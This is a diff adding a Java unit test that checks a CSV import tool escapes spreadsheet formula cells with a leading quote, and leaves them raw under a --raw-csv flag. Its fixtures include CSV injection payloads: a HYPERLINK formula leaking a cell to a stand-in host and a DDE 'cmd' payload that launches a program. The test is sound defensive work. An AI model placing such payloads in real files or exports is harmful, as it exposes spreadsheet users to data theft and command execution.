@@ -313,6 +313,34 @@ class ImportCommandTest {
   }
 
   @Test
+  void cellsASpreadsheetWouldRunAsFormulasStartWithAQuoteUnlessRawCellsAreAskedFor() throws IOException {
+    String leak = "=HYPERLINK(\"http://x/?leak=\"&B2,\"formula-1\")";
+    Path csv = write(dir, "formulas.csv", "FullName,Mobile,Company,Position\n"
+        + "\"" + leak.replace("\"", "\"\"") + "\",13900000001,\" @cmd\",-5\n"
+        + "formula-2,+86 139-1234-5679,\"\tx\",＝1+1\n");
+
+    Cli.Result result = Cli.run(args(csv, platform.baseUrl()));
+
+    assertThat(result.exitCode()).as(result.toString()).isEqualTo(0);
+    Map<String, Map<String, String>> rows = results(dir.resolve("formulas.result.csv"));
+    assertThat(rows.keySet()).containsExactly("'" + leak, "formula-2");
+    assertThat(rows.get("'" + leak)).containsEntry("Company", "' @cmd").containsEntry("Position", "-5") // a number is kept
+        .containsEntry("orderNo", "'=1+2").containsEntry("attendeeId", "'@SUM(1)")
+        .containsEntry("checkinCode", "'-2+3+cmd|' /C calc'!A0");
+    assertThat(rows.get("formula-2")).containsEntry("Mobile", "+86 139-1234-5679").containsEntry("Company", "'\tx")
+        .containsEntry("Position", "'＝1+1");
+    assertThat(platform.received()).containsOnlyKeys(leak, "formula-2"); // what was sent is the file's
+
+    Cli.Result raw = Cli.run(args(csv, platform.baseUrl(), "--raw-csv"));
+
+    assertThat(raw.exitCode()).as(raw.toString()).isEqualTo(0);
+    Map<String, Map<String, String>> rawRows = results(dir.resolve("formulas.result.csv"));
+    assertThat(rawRows.get(leak)).containsEntry("Company", " @cmd").containsEntry("orderNo", "=1+2")
+        .containsEntry("attendeeId", "@SUM(1)").containsEntry("checkinCode", "-2+3+cmd|' /C calc'!A0");
+    assertThat(rawRows.get("formula-2")).containsEntry("Company", "\tx").containsEntry("Position", "＝1+1");
+  }
+
+  @Test
   void requestsInFlightNeverExceedTheConcurrency() throws IOException {
     try (FakePlatform slow = new FakePlatform(20)) {
       Path csv = attendees(dir, "many.csv", "many", 40);
